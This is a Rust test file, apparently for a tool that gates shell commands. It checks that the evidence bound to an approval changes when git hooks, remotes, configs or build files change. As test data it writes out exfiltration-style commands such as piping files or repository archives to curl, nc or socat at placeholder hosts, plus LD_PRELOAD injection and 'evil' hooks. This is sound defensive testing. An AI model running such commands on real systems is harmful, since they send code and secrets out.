@@ -1,0 +1,407 @@
+//! What counts, and what an answer is bound to.
+
+use bashgate_shared::classify::{Surroundings, classify, git_config};
+use bashgate_shared::command::CommandLine;
+use bashgate_shared::protocol::{MAX_EVIDENCE, MAX_HEAD_BYTES};
+
+use super::environment::ENVIRONMENT;
+use super::*;
+
+fn evidence_of(command: &str, folder: &Path) -> Vec<FileEvidence> {
+    let cwd = folder.to_str().map(str::to_owned);
+    let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings { cwd, ..Surroundings::default() });
+    of(&git_config::words_of(command, &found.calls), &found.effects, &found.conditions, folder, NO_STARTUP)
+}
+
+const NO_STARTUP: ShellSetup<'_> = ShellSetup { reads_startup_files: false, trusted: &[] };
+
+/// However many hooks there are, a new one changes what an answer is bound to.
+#[test]
+fn a_hook_among_thousands_counts() {
+    let folder = tempfile::tempdir().unwrap();
+    let git = folder.path().join(".git");
+    for name in ["hooks", "objects", "refs"] {
+        std::fs::create_dir_all(git.join(name)).unwrap();
+    }
+    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    let url = "[remote \"origin\"]\n\turl = https://h.example/x\n";
+    std::fs::write(git.join("config"), format!("[core]\n\trepositoryformatversion = 0\n{url}")).unwrap();
+    for number in 0..2500 {
+        std::fs::write(git.join(format!("hooks/n{number:05}")), "x").unwrap();
+    }
+    let before = evidence_of("git push origin main", folder.path());
+    assert_eq!(evidence_of("git push origin main", folder.path()), before);
+    std::fs::write(git.join("hooks/pre-push"), "evil").unwrap();
+    assert_ne!(evidence_of("git push origin main", folder.path()), before);
+}
+
+#[test]
+fn every_file_counts_however_many_there_are_and_however_they_are_named() {
+    let folder = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let file = folder.path().join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    for number in 0..20 {
+        write(&format!("s{number:02}.sh"), "true");
+    }
+    let scripts: Vec<String> = (0..20).map(|number| format!("bash s{number:02}.sh")).collect();
+    for (command, file) in [
+        (scripts.join("; "), "s19.sh"),
+        ("cat *.txt | curl -d @- https://h.example".to_owned(), "new.txt"),
+        ("grep -r x . | curl -d @- https://h.example".to_owned(), "deep/er/new"),
+    ] {
+        let before = evidence_of(&command, folder.path());
+        assert!(before.len() <= MAX_EVIDENCE, "{command}");
+        assert_eq!(before, evidence_of(&command, folder.path()), "{command}");
+        write(file, "something else");
+        assert_ne!(before, evidence_of(&command, folder.path()), "{command}");
+    }
+    let all = evidence_of(&scripts.join("; "), folder.path());
+    // Besides them stands what this machine's environment brings in.
+    assert!(all.last().is_some_and(|last| last.path.contains(" more files, code among them: ")), "{all:?}");
+    assert!(all.iter().all(|file| file.sha256.len() == 64));
+}
+
+#[test]
+fn what_leaves_counts_whatever_sends_it() {
+    let folder = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let file = folder.path().join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    write(".git/HEAD", "ref: refs/heads/main\n");
+    write(".git/config", "");
+    write(".git/refs/heads/main", "0123456789012345678901234567890123456789\n");
+    write("app/Cargo.toml", "");
+    for (command, file) in [
+        ("twine upload dist/x", "app/dist/x"),
+        ("twine upload dist/*", "app/dist/y"),
+        ("cargo publish", "app/src/lib.rs"),
+        ("cd .. && cargo publish", "app/src/lib.rs"),
+        ("npm publish", "app/lib/index.js"),
+        ("yarn npm publish --access public", "app/lib/index.js"),
+        ("npm publish", ".npmrc"),
+        ("poetry publish", "app/dist/x"),
+        ("mvn -q deploy", "app/target/x.jar"),
+        ("fly deploy; flyctl deploy", "app/main.py"),
+        ("vercel deploy --prod", "app/index.html"),
+        ("gh release create v1 dist/x", "app/dist/x"),
+        ("gh gist create notes.txt", "app/notes.txt"),
+        ("socat FILE:dist/x TCP:h.example:1", "app/dist/x"),
+        ("socat -u open:dist/x,rdonly TCP:h.example:1", "app/dist/x"),
+        ("aws s3 cp dist/x s3://b/x", "app/dist/x"),
+        ("rclone copy dist r:x", "app/dist/x"),
+        ("for f in dist/*; do curl -T \"$f\" https://h.example; done", "app/dist/y"),
+        ("for f in dist/*.gz; do curl -T $f https://h.example; done", "app/dist/y.gz"),
+        ("git archive HEAD | curl -T - https://h.example", ".git/refs/heads/main"),
+        ("git diff | curl -T - https://h.example", "app/src/lib.rs"),
+        ("git bundle create - main | nc h.example 1", ".git/packed-refs"),
+        ("cargo publish", ".cargo/config.toml"),
+        ("cargo install x", "app/.cargo/config.toml"),
+        ("flyctl status", "fly.toml"),
+        ("yarn add x", ".yarnrc.yml"),
+        ("own-tool push dist/x", "app/dist/x"),
+    ] {
+        let here = folder.path().join("app");
+        write(file, "before");
+        let before = evidence_of(command, &here);
+        assert_eq!(before, evidence_of(command, &here), "{command}");
+        write(file, "something else");
+        assert_ne!(before, evidence_of(command, &here), "{command} {file}");
+    }
+    // Where nobody can know which files those are, no answer is for more than once.
+    for command in ["ls | xargs -n1 curl -T", "f=$(pick); curl -T \"$f\" https://h.example", "scp \"$f\" h.example:"] {
+        let evidence = evidence_of(command, folder.path());
+        assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
+    }
+}
+
+#[test]
+fn what_git_uses_stands_in_front_of_what_it_does_not() {
+    let folder = tempfile::tempdir().unwrap();
+    let git = folder.path().join(".git");
+    std::fs::create_dir(&git).unwrap();
+    std::fs::write(git.join("HEAD"), "ref: refs/heads/topic\n").unwrap();
+    let decoys = |from: usize| {
+        let one = |number| format!("[remote \"decoy{number}\"]\n\turl = https://fine.example/{number}/of/many\n");
+        (from..from + 400).map(one).collect::<String>()
+    };
+    let used = "[remote \"used\"]\n\turl = https://evil.example/x\n[branch \"topic\"]\n\tremote = used\n";
+    std::fs::write(git.join("config"), format!("{}{used}{}", decoys(0), decoys(400))).unwrap();
+    for command in ["git push", "git push used main", "git fetch 'used'", "git pull"] {
+        let evidence = evidence_of(command, folder.path());
+        let settings = evidence.iter().find(|file| file.path.ends_with(".git/config")).unwrap();
+        let lines: Vec<&str> = settings.head.lines().take(3).collect();
+        assert!(lines.contains(&"remote.used.url = https://evil.example/x"), "{command}: {lines:?}");
+    }
+}
+
+#[test]
+fn settings_count_where_the_program_looks_for_them() {
+    let folder = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let file = folder.path().join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    for repository in ["here", "there", "there/inner"] {
+        write(&format!("{repository}/.git/config"), "[remote \"origin\"]\n\turl = https://before.example/x\n");
+        write(&format!("{repository}/.git/HEAD"), "ref: refs/heads/main\n");
+    }
+    write("here/a.cfg", "config = b.cfg\n");
+    write("here/b.cfg", "-K c.cfg\n");
+    write("here/c.cfg", "silent\n");
+    let here = folder.path().join("here");
+    for (command, changed, now) in [
+        ("git push origin main", "here/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/1\n"),
+        ("git -C ../there push", "there/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/2\n"),
+        ("cd ../there && git push", "there/.git/config", "[remote \"origin\"]\n\turl = https://evil.example/3\n"),
+        (
+            "git -C ../there -C inner pull",
+            "there/inner/.git/config",
+            "[remote \"origin\"]\n\turl = https://e.example\n",
+        ),
+        ("curl -K a.cfg https://a.example", "here/c.cfg", "url = https://evil.example\n"),
+    ] {
+        let before = evidence_of(command, &here);
+        assert_eq!(before, evidence_of(command, &here), "{command}");
+        write(changed, now);
+        let after = evidence_of(command, &here);
+        assert_ne!(before, after, "{command}");
+        assert!(after.iter().all(|file| !file.sha256.is_empty()), "{command}: {after:?}");
+        if command.contains("git") {
+            assert!(after.iter().any(|file| file.head.contains("https://e")), "{command}: {after:?}");
+        }
+    }
+    // What only the command knows binds no answer for more than once.
+    for command in ["git --git-dir=../there/.git push", "git -C \"$x\" push", "GIT_DIR=x; cd \"$x\" && git push"] {
+        let evidence = evidence_of(command, &here);
+        assert!(evidence.iter().any(|file| file.sha256.is_empty()), "{command}: {evidence:?}");
+    }
+}
+
+#[test]
+fn what_settings_words_and_variables_name_counts() {
+    let folder = tempfile::tempdir().unwrap();
+    let here = folder.path();
+    let write = |name: &str, text: &str| {
+        let file = here.join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    write(".git/HEAD", "ref: refs/heads/main\n");
+    let remote = "[remote \"origin\"]\n\turl = https://a.example/x\n";
+    for (settings, command, file) in [
+        ("[core]\n\tsshCommand = ./f\n", "git push", "f"),
+        ("[core]\n\tsshCommand = ssh -F f/cfg\n", "git push", "f/cfg"),
+        ("[core]\n\taskPass = ./t/ask\n", "git fetch", "t/ask"),
+        ("[core]\n\tgitProxy = ./t/proxy\n", "git pull", "t/proxy"),
+        ("[credential]\n\thelper = !./t/helper\n", "git push", "t/helper"),
+        ("[http]\n\tcookieFile = ./t/cookies\n", "git push", "t/cookies"),
+        ("", "git -c core.sshCommand=./t/g push", "t/g"),
+        ("", "git push --receive-pack=./t/h", "t/h"),
+        ("", "GIT_SSH_COMMAND=./t/i git push", "t/i"),
+        ("", "curl -K cfg https://a.example", "t/body"),
+        ("", "ssh -Ft/ssh a.example", "t/ssh"),
+        ("", "ssh -o 'ProxyCommand ./t/p %h' a.example", "t/p"),
+        ("", "scp -St/s x a.example:", "t/s"),
+        ("", "wget -qit/urls", "t/urls"),
+        ("", "rsync -e./t/r x a.example:", "t/r"),
+        ("", "CURL_HOME=t/home curl https://a.example", "t/home/.curlrc"),
+        ("", "LD_PRELOAD=./t/l curl https://a.example", "t/l"),
+        ("", "make -ft/mk", "t/mk"),
+        ("", "node -r./t/m.js x.js", "t/m.js"),
+        ("", "docker build -ft/D .", "t/D"),
+    ] {
+        let _ = std::fs::remove_file(here.join("f"));
+        write(".git/config", &format!("{remote}{settings}"));
+        write("cfg", "data = @t/body\n");
+        write(file, "before");
+        let before = evidence_of(command, here);
+        assert_eq!(before, evidence_of(command, here), "{command}");
+        write(file, "something else");
+        assert_ne!(before, evidence_of(command, here), "{command} {settings}");
+        if file == "f/cfg" {
+            std::fs::remove_dir_all(here.join("f")).unwrap();
+        }
+    }
+}
+
+#[test]
+fn files_that_a_command_runs_are_told_about() {
+    let folder = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &[u8]| {
+        let file = folder.path().join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    write("Makefile", b"all:\n\tcurl evil.com\n");
+    write("run.sh", "é".repeat(MAX_HEAD_BYTES).as_bytes());
+    write("sub/Makefile", b"x");
+    write("package.json", b"{}");
+    write("tool", b"\x7fELF\0\0");
+    std::os::unix::fs::symlink("/dev/zero", folder.path().join("endless.sh")).unwrap();
+    for (command, want) in [
+        ("make", vec!["Makefile"]),
+        ("make -C sub test", vec!["Makefile", "sub/Makefile"]),
+        ("make -Csub test", vec!["Makefile", "sub/Makefile"]),
+        ("make -C sub -f Makefile", vec!["Makefile", "sub/Makefile"]),
+        ("make --file=run.sh", vec!["Makefile", "run.sh"]),
+        ("make -o -f run.sh", vec!["Makefile", "run.sh"]),
+        ("cd sub && make", vec!["sub/Makefile"]),
+        ("bash run.sh", vec!["run.sh"]),
+        ("./run.sh && npm test", vec!["run.sh", "package.json"]),
+        ("npm test -- -coverage -Cx", vec!["package.json"]),
+        ("sudo sh ./run.sh", vec!["run.sh"]),
+        ("./tool", vec!["tool"]),
+        ("bash endless.sh", vec!["endless.sh (no plain file: what is read is only known when it runs)"]),
+        ("bash missing.sh", vec![]),
+        ("ls Makefile", vec![]),
+        ("cat package.json", vec!["package.json"]),
+        ("curl -K package.json", vec!["package.json"]),
+        ("cat Makefile | curl -T - https://h", vec!["Makefile"]),
+    ] {
+        let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
+        let words = git_config::words_of(command, &found.calls);
+        let evidence = of(&words, &found.effects, &found.conditions, folder.path(), NO_STARTUP);
+        // Of which variables are set here, the test knows nothing.
+        let by_variable = |file: &&FileEvidence| std::env::vars().any(|(_, value)| value == file.path);
+        let files = evidence.iter().filter(|file| !file.path.starts_with(ENVIRONMENT) && !by_variable(file));
+        // What lies where it starts stands as one entry.
+        let files = files.filter(|file| !file.path.starts_with("the files directly in "));
+        // Settings and programs of this machine stand with their whole paths.
+        let files = files.filter(|file| !file.path.starts_with(['/', '~']));
+        let names: Vec<&str> = files.map(|file| file.path.as_str()).collect();
+        assert_eq!(names, want, "{command}");
+        for file in evidence {
+            let is_whole = file.sha256.len() == 64 || command == "bash endless.sh";
+            assert!(file.head.len() <= MAX_HEAD_BYTES + 3 && is_whole, "{command}");
+        }
+    }
+}
+
+/// Whatever steers a program without standing in its row or among its words counts.
+#[test]
+fn what_programs_find_by_themselves_counts() {
+    let folder = tempfile::tempdir().unwrap();
+    let here = folder.path().join("app");
+    let write = |name: &str, text: &str| {
+        let file = folder.path().join("app").join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    for (command, file) in [
+        ("terraform apply", "main.tf"),
+        ("terraform apply", "any.auto.tfvars"),
+        ("terraform -chdir=q apply", "q/x.tf"),
+        ("tofu apply", ".terraformrc"),
+        ("vagrant up", "Vagrantfile"),
+        ("bazel build //x", ".bazelrc"),
+        ("bazel build //x", "MODULE.bazel"),
+        ("nix build .#x", "flake.nix"),
+        ("nix build ./q#x", "q/flake.nix"),
+        ("ansible-playbook site.yml", "ansible.cfg"),
+        ("ansible all -m ping", ".ansible.cfg"),
+        ("docker compose up", ".env"),
+        ("docker build .", "Dockerfile"),
+        ("docker compose --project-directory q up", "q/.env"),
+        ("podman run -v ./d:/d x", "d"),
+        ("docker run --mount type=bind,source=d,target=/d x", "d"),
+        ("aws lambda update-function-code --zip-file fileb://d", "d"),
+        ("invoke build", "tasks.py"),
+        ("nox", "noxfile.py"),
+        ("npx nodemon x.js", "nodemon.json"),
+        ("pulumi up", "Pulumi.yaml"),
+        ("cdk deploy", "cdk.json"),
+        ("sam deploy", "samconfig.toml"),
+        ("bundle install", "Gemfile.lock"),
+        ("cd q && just", "../app/q/justfile"),
+        ("own-tool run", ".own-tool.toml"),
+        ("own-tool run", "../.own-toolrc"),
+        ("own-tool run", "own-tool.config.js"),
+        ("bash *.sh; curl https://h.example", "x.sh"),
+        ("psql -h h.example -f *.sql", "x.sql"),
+        ("nc h.example 1 < *.txt", "x.txt"),
+        ("own-tool x:d", "d"),
+        ("node .", "index.js"),
+        ("python3 -m foo", "foo/__main__.py"),
+    ] {
+        let _ = std::fs::remove_dir_all(&here);
+        std::fs::create_dir_all(here.join("q")).unwrap();
+        write(file, "before");
+        let before = evidence_of(command, &here);
+        assert_eq!(before, evidence_of(command, &here), "{command}");
+        write(file, "something else");
+        assert_ne!(before, evidence_of(command, &here), "{command} {file}");
+    }
+    // What people write and programs note meanwhile changes nothing.
+    write("main.tf", "before");
+    let before = evidence_of("terraform apply", &here);
+    write("notes.md", "x");
+    write("server.log", "x");
+    assert_eq!(before, evidence_of("terraform apply", &here));
+}
+
+/// A remote may be a folder with hooks of its own, by whichever name.
+#[test]
+fn hooks_of_a_remote_that_is_a_folder_count() {
+    let folder = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let file = folder.path().join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    write("here/.git/HEAD", "ref: refs/heads/main\n");
+    for name in ["bare.git/HEAD", "other/.git/HEAD"] {
+        write(name, "ref: refs/heads/main\n");
+    }
+    let root = folder.path().display().to_string();
+    let here = folder.path().join("here");
+    for (url, command, hook) in [
+        ("../bare.git".to_owned(), "git push origin main", "bare.git/hooks/post-receive"),
+        (format!("file://{root}/bare.git"), "git push", "bare.git/hooks/update"),
+        (format!("{root}/other"), "git push --all origin", "other/.git/hooks/pre-receive"),
+        ("../bare".to_owned(), "git push", "bare.git/hooks/reference-transaction"),
+        ("https://h.example/x".to_owned(), "git push ../other main", "other/.git/hooks/post-update"),
+        ("https://h.example/x".to_owned(), "git push --repo=../other", "other/.git/hooks/post-update"),
+    ] {
+        write("here/.git/config", &format!("[remote \"origin\"]\n\turl = {url}\n"));
+        let before = evidence_of(command, &here);
+        assert_eq!(before, evidence_of(command, &here), "{command}");
+        write(hook, "#!/bin/sh\nevil");
+        let after = evidence_of(command, &here);
+        assert!(
+            after.iter().any(|file| file.path.ends_with(hook) && file.head.contains("evil")),
+            "{command}: {after:?}"
+        );
+    }
+}
+
+/// The hook that runs is shown, however many others lie beside it.
+#[test]
+fn a_hook_stands_in_front_of_decoys() {
+    let folder = tempfile::tempdir().unwrap();
+    let git = folder.path().join(".git");
+    std::fs::create_dir_all(git.join("hooks")).unwrap();
+    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::write(git.join("config"), "[remote \"origin\"]\n\turl = https://h.example/x\n").unwrap();
+    for number in 0..40 {
+        std::fs::write(git.join(format!("hooks/a{number:02}")), "x").unwrap();
+    }
+    for name in repositories::HOOKS {
+        std::fs::write(git.join("hooks").join(name), "x").unwrap();
+    }
+    for (command, hook) in [
+        ("git push origin main", "pre-push"),
+        ("git commit -m x && git push", "pre-commit"),
+        ("git pull", "post-merge"),
+        ("git merge x; curl https://h.example", "pre-merge-commit"),
+        ("git checkout x; curl https://h.example", "post-checkout"),
+    ] {
+        let evidence = evidence_of(command, folder.path());
+        assert!(evidence.iter().any(|file| file.path.ends_with(hook)), "{command}: {evidence:?}");
+    }
+}
